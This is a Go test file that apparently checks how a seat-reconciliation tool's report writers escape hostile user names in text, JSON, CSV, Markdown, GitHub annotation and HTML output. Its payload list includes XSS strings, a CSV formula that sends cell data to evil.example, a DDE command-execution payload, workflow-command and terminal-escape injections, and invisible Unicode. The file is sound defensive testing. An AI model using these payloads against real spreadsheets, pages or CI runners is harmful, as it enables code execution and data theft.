package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"

	"github.com/seatsync/seatsync/reconcile"
)

// hostileNames are what people, and those who test us, call themselves.
func hostileNames() map[string]string {
	return map[string]string{
		"a script":                        `<script>window.pwned = 1</script>`,
		"an image with a handler":         `<img src=x onerror="window.pwned=1">`,
		"the end of a script":             `</script><script>window.pwned=1</script>`,
		"the end of a comment":            `--> <!-- <b>bold</b>`,
		"the end of a table":              `</td></tr></table></details><h1>All fine</h1>`,
		"the end of a style":              `</style><style>*{display:none}`,
		"an attribute":                    `" onmouseover="window.pwned=1" x="`,
		"a template action":               `{{.Policy}} ${alert(1)}`,
		"a link":                          `[click](javascript:window.pwned=1)`,
		"the end of a link":               `](javascript:window.pwned=1)`,
		"an image in Markdown":            `![x](https://evil.example/x.png)`,
		"an address":                      `https://evil.example/ www.evil.example`,
		"a bar":                           `a | b || c |`,
		"a backslash and a bar":           `a\| b \\| c \`,
		"backticks":                       "`` ` ``` x ``",
		"one backtick":                    "`",
		"a mention":                       `@everyone @octocat/team`,
		"an issue":                        `#1 GH-2 octocat/hello#3 deadbeefdeadbeef`,
		"an emoji by name":                `:tada: :+1:`,
		"emphasis":                        `**bold** _x_ ~~gone~~ $x$`,
		"a heading":                       `# Heading`,
		"a rule":                          `---`,
		"an entity":                       `&lt;script&gt; &#64;everyone &amp;`,
		"a formula":                       `=HYPERLINK("https://evil.example?"&A1,"click")`,
		"a plus":                          `+1`,
		"a minus":                         `-1`,
		"an at":                           `@SUM(1+1)*cmd|' /C calc'!A0`,
		"a tab and a formula":             "\t=1+1",
		"a carriage return and a formula": "\r=1+1",
		"a semicolon and a formula":       `x;=1+1;"=2+2`,
		"quotes and a formula":            `"=1+1","=2+2"`,
		"a workflow command":              `::set-output name=x::y`,
		"a workflow command after space":  `x ::error::y`,
		"an old workflow command":         `##[group]x`,
		"an encoded line break":           `x%0A::error::y%0D`,
		"line breaks":                     "one\ntwo\r\n::error::three\n\n# four\u2028five\u2029six\u0085seven",
		"a colour":                        "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b31m",
		"a C1 control":                    "a\u009b31mb\u0090c",
		"a bell and a backspace":          "a\a\b\b\x7f",
		"a zero byte":                     "a\x00b",
		"a reversed text":                 "abc\u202egnp.exe\u202c \u2066x\u2069 \u200fy",
		"nothing to see":                  "a\u200bb\u200d\ufeff\u00adc\u3164d\u2800e\U000e0041\U000e0101",
		"many marks":                      "Z" + strings.Repeat("\u0336\u0354", 40) + "algo",
		"a mark first":                    "\u0301x",
		"invalid UTF-8":                   "a\xff\xfe\xc3(\xed\xa0\x80b",
		"a hundred kilobytes":             strings.Repeat("A", 100_000),
		"thousands of line breaks":        strings.Repeat("\n", 5000),
		"only spaces":                     "   ",
		"a hidden marker":                 `<!-- seatsync plan 0 -->`,
		"a long word":                     strings.Repeat("x`|", 40),
	}
}

// planAbout is a run on a plan in which everything that others can write says
// text, and each kind of row occurs.
func planAbout(text string) *reconcile.Plan {
	plan := partialPlan()
	for i := range plan.Changes {
		change := &plan.Changes[i]
		change.Email, change.UserID, change.SeatUID = text, text, text
		change.Before.Name, change.After.Name = text, text
		change.Because = text
		change.Source.File, change.Group = text, text
		if !change.WillBeDone() {
			change.HeldBecause = text
		}
		if change.Exemption != nil {
			change.Exemption = &reconcile.Exemption{From: text, Until: change.Exemption.Until, Owner: text, Reason: text}
		}
	}
	for i := range plan.Findings {
		finding := &plan.Findings[i]
		finding.Message = text
		if finding.Email != "" {
			finding.Email = text
		}
		if finding.Source != nil {
			finding.Source = &reconcile.Position{File: text, Line: finding.Source.Line}
		}
	}
	for i := range plan.Run.Outcomes {
		if outcome := &plan.Run.Outcomes[i]; outcome.Status != reconcile.Applied {
			outcome.Error = text
		}
	}
	for i := range plan.Groups {
		plan.Groups[i].Name = text
	}
	plan.Run.Stopped = text
	plan.Run.ID = text
	plan.AccountID = text
	plan.Tool = text
	plan.Digest = text
	plan.Desired.Commit = text
	plan.Desired.Files = []string{text, text}
	plan.Limit.From = text
	plan.Returns.Share = text
	plan.Summary.Currency = text
	return plan
}

func TestWhateverPeopleAreCalledIsOnlyTextInEveryFormat(t *testing.T) {
	same := make(map[Format]string)
	for _, format := range Formats() {
		same[format] = written(t, format, planAbout("someone"), Options{Width: 60})
	}
	for name, text := range hostileNames() {
		for _, format := range Formats() {
			t.Run(name+" in "+string(format), func(t *testing.T) {
				checkInert(t, format, text, same[format])
			})
		}
		t.Run(name+" in a difference", func(t *testing.T) {
			d := Diff(demoPlan(), planAbout(text))
			for format, check := range map[Format]func(t *testing.T, got, same string){Text: checkText, Markdown: checkMarkdown} {
				var got bytes.Buffer
				if err := WriteDifference(&got, format, &d, Options{Width: 60}); err != nil {
					t.Fatal(err)
				}
				checkPlain(t, got.String(), text)
				check(t, got.String(), "")
			}
		})
	}
}

// checkInert writes a plan about text and checks that the format holds. The
// same report about a harmless name is what it is compared with.
func checkInert(t *testing.T, format Format, text, same string) {
	t.Helper()
	got := written(t, format, planAbout(text), Options{Width: 60})
	switch format {
	case JSON:
		checkPlain(t, got, "")
		checkJSON(t, got, text)
		return
	case CSV:
		checkCSV(t, got)
		got = strings.ReplaceAll(got, "\r\n", "\n")
	case Markdown:
		checkMarkdown(t, got, same)
	case GitHub:
		checkGitHub(t, got, same)
	case HTML:
		checkHTML(t, got, same)
	case Text:
		checkText(t, got, same)
	}
	checkPlain(t, got, text)
}

// checkPlain checks what holds for all formats: nothing invisible, nothing that
// a terminal or a runner obeys, and nothing that is much too long.
func checkPlain(t *testing.T, got, text string) {
	t.Helper()
	if !utf8.ValidString(got) {
		t.Error("the report is not UTF-8")
	}
	for _, r := range got {
		if r != '\n' && !reconcile.IsVisible(r) {
			t.Errorf("the report holds the character %U", r)
			break
		}
	}
	if strings.Contains(got, "##[") {
		t.Error("the report holds an old workflow command")
	}
	if len(text) > 10_000 && len(got) > 250_000 {
		t.Errorf("a long name makes a report of %d bytes", len(got))
	}
}

// ownCommand is a line that the runner obeys.
var ownCommand = regexp.MustCompile(`(?m)^[ \t]*::.*$`)

func checkText(t *testing.T, got, _ string) {
	t.Helper()
	if found := ownCommand.FindString(got); found != "" {
		t.Errorf("the report holds a workflow command: %s", found)
	}
}

func checkJSON(t *testing.T, got, text string) {
	t.Helper()
	var back reconcile.Plan
	if err := json.Unmarshal([]byte(got), &back); err != nil {
		t.Fatal(err)
	}
	want := strings.ToValidUTF8(text, "\ufffd")
	for _, back := range []string{back.Changes[0].After.Name, back.Findings[0].Message, back.Run.Stopped} {
		if strings.Trim(back, "\ufffd") != strings.Trim(want, "\ufffd") && utf8.ValidString(text) {
			t.Errorf("JSON gave back %q for %q", back, want)
		}
	}
	checkText(t, got, "")
}

func checkCSV(t *testing.T, got string) {
	t.Helper()
	if strings.Count(got, "\n") != strings.Count(got, "\r\n") {
		t.Error("a line does not end in CRLF")
	}
	reader := csv.NewReader(strings.NewReader(got))
	reader.FieldsPerRecord = len(csvColumns())
	rows, err := reader.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if want := 1 + len(demoPlan().Changes); len(rows) != want || strings.Count(got, "\n") != want {
		t.Errorf("%d rows in %d lines, want %d", len(rows), strings.Count(got, "\n"), want)
	}
	for _, row := range rows {
		for _, cell := range row {
			for part := range strings.SplitSeq(cell, ";") {
				if startsFormula(strings.TrimLeft(part, ` "`)) {
					t.Errorf("a spreadsheet computes the cell %q", cell)
				}
			}
		}
	}
}

// rendered returns Markdown as GitHub would render it, HTML included.
func rendered(t testing.TB, markdown string) string {
	t.Helper()
	var out bytes.Buffer
	converter := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(html.WithUnsafe()))
	if err := converter.Convert([]byte(markdown), &out); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

var (
	codeElement = regexp.MustCompile(`(?s)<code>.*?</code>`)
	tag         = regexp.MustCompile(`</?[a-zA-Z][a-zA-Z0-9]*`)
)

func checkMarkdown(t *testing.T, got, same string) {
	t.Helper()
	if len(got) > commentLimit {
		t.Errorf("%d bytes", len(got))
	}
	// What is in code is shown as it is; the rest must be ours.
	_, got, _ = strings.Cut(got, "\n") // the marker, which is letters and digits
	_, same, _ = strings.Cut(same, "\n")
	page := codeElement.ReplaceAllString(rendered(t, got), "")
	for _, forbidden := range []string{"@", "<a ", "<img", "<script", "javascript:", "evil", "<b>", "set-output", "[", "`", "&amp;", ":tada:", "|", "~", "$"} {
		if at := strings.Index(page, forbidden); at >= 0 {
			t.Errorf("%q outside of code: …%s…", forbidden, page[max(0, at-60):min(len(page), at+60)])
		}
	}
	if same == "" {
		return
	}
	checkShape(t, page, codeElement.ReplaceAllString(rendered(t, same), ""))
}

// command is a workflow command as we write them.
var command = regexp.MustCompile(`^::(notice|warning|error) ([^:]*)::(.*)$`)

func checkGitHub(t *testing.T, got, same string) {
	t.Helper()
	lines, others := strings.Split(got, "\n"), strings.Split(same, "\n")
	if len(lines) != len(others) {
		t.Errorf("%d lines, and %d with a harmless name", len(lines), len(others))
	}
	for _, line := range lines {
		if line == "" || strings.Contains(line, " left out, because GitHub ") {
			continue
		}
		parts := command.FindStringSubmatch(line)
		if parts == nil {
			t.Errorf("not a workflow command of ours: %s", line)
			continue
		}
		for property := range strings.SplitSeq(parts[2], ",") {
			if name, _, found := strings.Cut(property, "="); !found || name != "file" && name != "line" && name != "title" {
				t.Errorf("a property %q in %s", property, line)
			}
		}
		if decoded := regexp.MustCompile(`%(25|0D|0A|3A|2C)`).ReplaceAllString(parts[2]+parts[3], ""); strings.Contains(decoded, "%") {
			t.Errorf("a percent sign that is not escaped in %s", line)
		}
		if regexp.MustCompile(`%0[AD]`).MatchString(line) {
			t.Errorf("a line break in %s", line)
		}
	}
}

func checkHTML(t *testing.T, got, same string) {
	t.Helper()
	if n := strings.Count(strings.ToLower(got), "<script"); n != 2 {
		t.Errorf("%d elements that could be scripts", n)
	}
	if n := strings.Count(got, "<!--"); n != 0 {
		t.Errorf("%d comments", n)
	}
	// The script has tags in no string, so all tags are those of the template.
	checkShape(t, got, same)
}

// checkShape checks that two pages have the same tags in the same order.
func checkShape(t *testing.T, got, same string) {
	t.Helper()
	have, want := strings.Join(tag.FindAllString(got, -1), "\n"), strings.Join(tag.FindAllString(same, -1), "\n")
	if have != want {
		t.Errorf("the name changes the page (-harmless +hostile):\n%s", cmp.Diff(want, have))
	}
}

func FuzzWhateverPeopleAreCalledIsOnlyText(f *testing.F) {
	for _, text := range hostileNames() {
		if len(text) < 1000 {
			f.Add(text)
		}
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, format := range []Format{Text, CSV, GitHub, JSON} {
			checkInert(t, format, text, written(t, format, planAbout("someone"), Options{Width: 60}))
		}
		got := written(t, Markdown, planAbout(text), Options{})
		page := codeElement.ReplaceAllString(rendered(t, got), "")
		for _, forbidden := range []string{"@", "<a ", "<img", "<script"} {
			if strings.Contains(page, forbidden) {
				t.Errorf("%q outside of code: %s", forbidden, page)
			}
		}
	})
}
